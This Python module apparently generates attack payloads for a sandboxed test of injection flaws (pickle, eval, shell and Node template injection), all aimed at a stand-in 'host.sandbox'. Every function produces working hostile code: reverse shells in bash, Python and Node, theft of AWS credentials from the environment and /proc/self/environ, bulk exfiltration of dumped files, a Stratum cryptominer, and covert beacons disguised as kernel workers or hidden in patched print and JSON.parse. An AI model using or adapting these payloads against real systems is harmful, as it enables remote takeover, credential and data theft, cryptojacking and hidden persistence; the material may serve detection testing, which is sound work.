"""Code the attacks run inside the vulnerable functions: Python snippets (for the pickle and
eval injections) and shell lines (for the shell injection). Ports are the host services'."""

import base64

HOST = "host.sandbox"


def reverse_shell_bash(port):
    return f"bash -c 'bash -i >& /dev/tcp/{HOST}/{port} 0>&1'"


def reverse_shell_python(port):
    return (f"[__import__('subprocess').call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s) "
            f"for s in [__import__('socket').create_connection(('{HOST}', {port}))]]")


def steal_env_http(port):
    return f"""
import json, os, urllib.request
creds = {{k: v for k, v in os.environ.items() if k.startswith('AWS_')}}
req = urllib.request.Request('http://{HOST}:{port}/c', data=json.dumps(creds).encode(),
                             method='POST', headers={{'Content-Type': 'application/json'}})
urllib.request.urlopen(req, timeout=3).read()
"""


def steal_proc_environ_socket(port):
    return f"""
import socket
raw = open('/proc/self/environ', 'rb').read()
found = b'&'.join(v for v in raw.split(b'\\0') if v.startswith(b'AWS_'))
s = socket.create_connection(('{HOST}', {port}), timeout=3)
s.sendall(b'POST /e HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(found) + found)
s.recv(1024)
s.close()
"""


def steal_curl(port):
    return f"curl -s -m 3 -X POST --data-binary @/proc/self/environ http://{HOST}:{port}/k"


def _dump_code(total):
    """Builds `total` bytes that look like a table dump (plus the function's own code)."""
    return f"""
import os
parts, size = [], 0
for root, _, names in os.walk('/var/task'):
    for name in names:
        try:
            parts.append(open(os.path.join(root, name), 'rb').read())
        except OSError:
            pass
size = sum(len(p) for p in parts)
n = 0
while size < {total}:
    row = b'%d,cust%07d,user%d@example.com,DE%018d,+49 %09d\\n' % (n, n, n, n * 7919, n * 31)
    parts.append(row * 64)
    size += len(row) * 64
    n += 1
dump = b''.join(parts)[:{total}]
"""


def exfil_stream(port, total):
    return _dump_code(total) + f"""
import socket
s = socket.create_connection(('{HOST}', {port}), timeout=5)
s.sendall(dump)
s.shutdown(socket.SHUT_WR)
s.recv(16)
s.close()
"""


def exfil_chunked(port, total, chunk):
    return _dump_code(total) + f"""
import socket
for at in range(0, len(dump), {chunk}):
    s = socket.create_connection(('{HOST}', {port}), timeout=5)
    s.sendall(dump[at:at + {chunk}])
    s.shutdown(socket.SHUT_WR)
    s.recv(16)
    s.close()
"""


def exfil_staged(port, total):
    return _dump_code(total) + f"""
import os, socket
path = '/tmp/.cache-{port}.tar'
open(path, 'wb').write(dump)
s = socket.create_connection(('{HOST}', {port}), timeout=5)
with open(path, 'rb') as f:
    s.sendfile(f)
s.shutdown(socket.SHUT_WR)
s.recv(16)
s.close()
os.remove(path)
"""


def miner(port, algorithm, budget_s, agent, worker):
    hashing = {
        "sha256d": "h = hashlib.sha256(hashlib.sha256(blob).digest()).digest(); hit = h[-2:] == b'\\0\\0'",
        "scrypt": "h = hashlib.scrypt(blob, salt=header[:16], n=1024, r=1, p=1, dklen=32); hit = h[0] == 0",
        "blake2b": "h = hashlib.blake2b(blob, digest_size=32).digest(); hit = h[:2] == b'\\0\\0'",
    }[algorithm]
    return f"""
import hashlib, json, socket, struct, time
s = socket.create_connection(('{HOST}', {port}), timeout=5)
f = s.makefile('rwb')
def send(m):
    f.write((json.dumps(m) + '\\n').encode()); f.flush()
send({{'id': 1, 'method': 'mining.subscribe', 'params': ['{agent}']}})
send({{'id': 2, 'method': 'mining.authorize', 'params': ['{worker}', 'x']}})
job = None
while job is None:
    m = json.loads(f.readline())
    if m.get('method') == 'mining.notify':
        job = m['params']
header = bytes.fromhex(job[1]) + bytes.fromhex(job[2])
end, nonce, ident = time.time() + {budget_s}, 0, 3
while time.time() < end:
    for _ in range(200):
        nonce += 1
        blob = header + struct.pack('<I', nonce)
        {hashing}
        if hit and ident < 40:
            send({{'id': ident, 'method': 'mining.submit',
                  'params': ['{worker}', job[0], '00000000', job[7], '%08x' % nonce]}})
            ident += 1
if ident == 3:  # no share found in time: report the best effort anyway
    send({{'id': ident, 'method': 'mining.submit',
          'params': ['{worker}', job[0], '00000000', job[7], '%08x' % nonce]}})
s.close()
"""


def beacon_loop(port):
    return (f"n=0; while :; do n=$((n+1)); (echo \"beat $n $$\" > /dev/tcp/{HOST}/{port}) 2>/dev/null; "
            f"sleep 0.3; done")


def beacon_daemon(port):
    """A Python daemon that double-forks, renames itself and beacons every 0.3 s."""
    return f"""import ctypes, os, socket, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
ctypes.CDLL(None).prctl(15, b'kworker/u4:2', 0, 0, 0)
n = 0
while True:
    n += 1
    try:
        s = socket.create_connection(('{HOST}', {port}), timeout=2)
        s.sendall(b'beat %d %d\\n' % (n, os.getpid()))
        s.close()
    except OSError:
        pass
    time.sleep(0.3)
"""


def b64(data):
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


# --- in-process Python (pricing-rules' eval): nothing is exec'd, the runtime does it all -----
def reverse_shell_fork_dup2(port):
    """The classic one-liner, forked first so that the runtime keeps its own stdio: the child's
    stdin, stdout and stderr become the socket and it execs /bin/sh."""
    return f"""
import os, socket
s = socket.create_connection(('{HOST}', {port}), timeout=10)
pid = os.fork()
if pid == 0:
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv('/bin/sh', ['sh', '-i'])
s.close()
os.waitpid(pid, 0)
"""


def reverse_shell_pty(port):
    """Forked child with the socket as stdio that runs /bin/sh on a pty (`pty.spawn`)."""
    return f"""
import os, socket
s = socket.create_connection(('{HOST}', {port}), timeout=10)
pid = os.fork()
if pid == 0:
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    import pty
    pty.spawn('/bin/sh')
    os._exit(0)
s.close()
os.waitpid(pid, 0)
"""


def steal_env_query(port):
    """The credentials in the query string of a GET (a tracking-pixel request)."""
    return f"""
import os, urllib.parse, urllib.request
creds = {{k: v for k, v in os.environ.items() if k.startswith('AWS_')}}
urllib.request.urlopen('http://{HOST}:{port}/p.gif?' + urllib.parse.urlencode(creds), timeout=3).read()
"""


def _beat_py(port, indent):
    """Statements that send `beat <n> <pid>` to the beacon port (n: a variable in scope)."""
    lines = ("try:",
             f"    s = socket.create_connection(('{HOST}', {port}), timeout=2)",
             "    s.sendall(b'beat %d %d\\n' % (n, os.getpid()))",
             "    s.close()",
             "except OSError:",
             "    pass")
    return "".join(" " * indent + line + "\n" for line in lines)


def beacon_thread(port):
    """A daemon thread in the runtime process, named like the runtime's own pool threads, that
    beacons every 0.3 s for as long as the environment lives."""
    return ("import os, socket, threading, time\n"
            "def loop():\n"
            "    n = 0\n"
            "    while True:\n"
            "        n += 1\n"
            + _beat_py(port, 8) +
            "        time.sleep(0.3)\n"
            "threading.Thread(target=loop, daemon=True, name='ThreadPoolExecutor-0_1').start()\n")


def beacon_timer(port):
    """A chain of threading.Timer (a new thread every 0.3 s), each arming the next."""
    return ("import os, socket, threading\n"
            "state = [0]\n"
            "def tick():\n"
            "    state[0] += 1\n"
            "    n = state[0]\n"
            + _beat_py(port, 4) +
            "    t = threading.Timer(0.3, tick)\n"
            "    t.daemon = True\n"
            "    t.start()\n"
            "tick()\n")


def beacon_patched_print(port):
    """No thread at all: builtins.print is replaced, so every later invocation that logs (the
    handler prints once per call) beacons first."""
    return ("import builtins, os, socket\n"
            "original, state = builtins.print, [0]\n"
            "def patched(*args, **kwargs):\n"
            "    state[0] += 1\n"
            "    n = state[0]\n"
            + _beat_py(port, 4) +
            "    return original(*args, **kwargs)\n"
            "builtins.print = patched\n")


# --- in-process JavaScript (node-api's template engine) ------------------------------------
# Each is one expression for a `{{ ... }}` of the template: an async arrow function called at
# once (the engine awaits promises), resolving to '' so that the message still renders. The
# engine's template syntax ends an expression at the first `}}`: payloads never contain one.

# The template's functions see globals only; the main module's require reaches every module.
NODE_REQUIRE = "(m) => process.mainModule.require(m)"


def js_expression(body):
    """`(async () => { body; return ''; })()`, checked to survive the template's `{{ }}`."""
    code = f"(async () => {{ const req = {NODE_REQUIRE}; {body} return ''; }})()"
    if "{{" in code or "}}" in code:
        raise ValueError("a template expression cannot contain {{ or }}")
    return code


def js_steal_env_http(port):
    return js_expression(f"""
const http = req('http');
const creds = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('AWS_')));
await new Promise((done) => {{
  const r = http.request({{ host: '{HOST}', port: {port}, path: '/c', method: 'POST',
    headers: {{ 'Content-Type': 'application/json' }} }}, (res) => {{ res.resume(); res.on('end', done); }});
  r.on('error', done);
  r.end(JSON.stringify(creds));
}});""")


def js_steal_proc_environ(port):
    return js_expression(f"""
const fs = req('fs'), net = req('net');
const raw = fs.readFileSync('/proc/self/environ').toString('latin1').split('\\0');
const found = raw.filter((v) => v.startsWith('AWS_')).join('&');
await new Promise((done) => {{
  const head = `POST /e HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: ${{found.length}}\\r\\n`;
  const s = net.connect({port}, '{HOST}', () => s.end(`${{head}}Connection: close\\r\\n\\r\\n${{found}}`));
  s.on('data', () => {{ }});
  s.on('close', done);
  s.on('error', done);
}});""")


def js_steal_env_query(port):
    return js_expression(f"""
const http = req('http');
const creds = Object.entries(process.env).filter(([k]) => k.startsWith('AWS_'));
await new Promise((done) => {{
  const url = `http://{HOST}:{port}/p.gif?${{new URLSearchParams(creds)}}`;
  http.get(url, (res) => {{ res.resume(); res.on('end', done); }}).on('error', done);
}});""")


def _js_dump(total):
    """`dump`: a Buffer of `total` bytes that looks like a table dump."""
    return f"""
const rows = [];
let size = 0;
for (let n = 0; size < {total}; n++) {{
  const iban = `DE${{String(n * 7919).padStart(18, '0')}}`;
  const row = `${{n}},cust${{String(n).padStart(7, '0')}},user${{n}}@example.com,${{iban}},+49 ${{n * 31}}\\n`.repeat(64);
  rows.push(row);
  size += row.length;
}}
const dump = Buffer.from(rows.join('')).subarray(0, {total});"""


def _js_send(port, data):
    return f"""
await new Promise((done) => {{
  const s = net.connect({port}, '{HOST}', () => s.end({data}));
  s.on('data', () => {{ }});
  s.on('close', done);
  s.on('error', done);
}});"""


def js_exfil_stream(port, total):
    return js_expression("const net = req('net');" + _js_dump(total) + _js_send(port, "dump"))


def js_exfil_chunked(port, total, chunk):
    return js_expression("const net = req('net');" + _js_dump(total) + f"""
for (let at = 0; at < dump.length; at += {chunk}) {{""" + _js_send(port, f"dump.subarray(at, at + {chunk})")
                         + "\n}")


def js_exfil_staged(port, total):
    return js_expression("const net = req('net'), fs = req('fs');" + _js_dump(total) + f"""
const path = '/tmp/.npm-cache-{port}.tgz';
fs.writeFileSync(path, dump);
await new Promise((done) => {{
  const s = net.connect({port}, '{HOST}', () => fs.createReadStream(path).pipe(s));
  s.on('data', () => {{ }});
  s.on('close', done);
  s.on('error', done);
}});
fs.unlinkSync(path);""")


def js_beacon_interval(port):
    """A timer on the runtime's event loop: it fires whenever the process runs, across warm
    invocations, every 0.3 s."""
    return js_expression(f"""
const net = req('net');
let n = 0;
const beat = () => {{
  n += 1;
  const line = `beat ${{n}} ${{process.pid}}\\n`;
  const s = net.connect({port}, '{HOST}', () => s.end(line));
  s.on('error', () => {{ }});
}};
beat();
setInterval(beat, 300);""")


def js_beacon_patched_parse(port):
    """No timer: JSON.parse is wrapped, so that every later event (parsed by the runtime loop and
    by the handler) beacons."""
    return js_expression(f"""
const net = req('net');
const original = JSON.parse;
let n = 0;
JSON.parse = function (...args) {{
  n += 1;
  const line = `beat ${{n}} ${{process.pid}}\\n`;
  const s = net.connect({port}, '{HOST}', () => s.end(line));
  s.on('error', () => {{ }});
  return original.apply(this, args);
}};""")


def js_miner(port, algorithm, budget_s, agent, worker):
    """Stratum v1 from the event loop: subscribe, authorize, hash the job's header in slices
    (yielding to the loop between them) and submit what hits."""
    hashing, per_slice = {
        "sha256d": ("const h = crypto.createHash('sha256').update(crypto.createHash('sha256')"
                    ".update(header).digest()).digest(); const hit = h[30] === 0 && h[31] === 0;", 2000),
        "scrypt": ("const h = crypto.scryptSync(header, header.subarray(0, 16), 32, "
                   "{ N: 1024, r: 1, p: 1 }); const hit = h[0] === 0;", 20),
        "blake2b": ("const h = crypto.createHash('blake2b512').update(header).digest(); "
                    "const hit = h[0] === 0 && h[1] === 0;", 2000),
    }[algorithm]
    return js_expression(f"""
const net = req('net'), crypto = req('crypto');
const s = net.connect({port}, '{HOST}');
s.on('error', () => {{ }});
const send = (m) => s.write(JSON.stringify(m) + '\\n');
let buffered = '', job = null, id = 3;
const notified = new Promise((ready) => s.on('data', (data) => {{
  buffered += data;
  let at;
  while ((at = buffered.indexOf('\\n')) >= 0) {{
    const m = JSON.parse(buffered.slice(0, at));
    buffered = buffered.slice(at + 1);
    if (m.method === 'mining.notify') {{ job = m.params; ready(); }}
  }}
}}));
send({{ id: 1, method: 'mining.subscribe', params: ['{agent}'] }});
send({{ id: 2, method: 'mining.authorize', params: ['{worker}', 'x'] }});
await notified;
const header = Buffer.concat([Buffer.from(job[1], 'hex'), Buffer.from(job[2], 'hex'), Buffer.alloc(4)]);
let nonce = 0;
const submit = () => send({{ id: id++, method: 'mining.submit',
  params: ['{worker}', job[0], '00000000', job[7], nonce.toString(16).padStart(8, '0')] }});
const end = Date.now() + {int(budget_s * 1000)};
while (Date.now() < end) {{
  for (let k = 0; k < {per_slice}; k++) {{
    nonce = (nonce + 1) >>> 0;
    header.writeUInt32LE(nonce, header.length - 4);
    {hashing}
    if (hit && id < 40) submit();
  }}
  await new Promise((r) => setImmediate(r));
}}
if (id === 3) submit();
await new Promise((r) => s.end(r));""")


def js_reverse_shell_pipe(port):
    """/bin/sh spawned with pipes, the pipes joined to a socket by the runtime process."""
    return js_expression(f"""
const net = req('net'), cp = req('child_process');
await new Promise((done) => {{
  const s = net.connect({port}, '{HOST}', () => {{
    const sh = cp.spawn('/bin/sh', ['-i']);
    s.pipe(sh.stdin);
    sh.stdout.pipe(s);
    sh.stderr.pipe(s);
    sh.on('close', () => {{ s.end(); done(); }});
  }});
  s.on('error', done);
}});""")


def js_reverse_shell_stdio(port):
    """/bin/sh whose stdin, stdout and stderr are the socket itself."""
    return js_expression(f"""
const net = req('net'), cp = req('child_process');
await new Promise((done) => {{
  const s = net.connect({port}, '{HOST}', () => {{
    s.pause();
    const sh = cp.spawn('/bin/sh', ['-i'], {{ stdio: [s, s, s] }});
    sh.on('close', () => {{ s.destroy(); done(); }});
  }});
  s.on('error', done);
}});""")
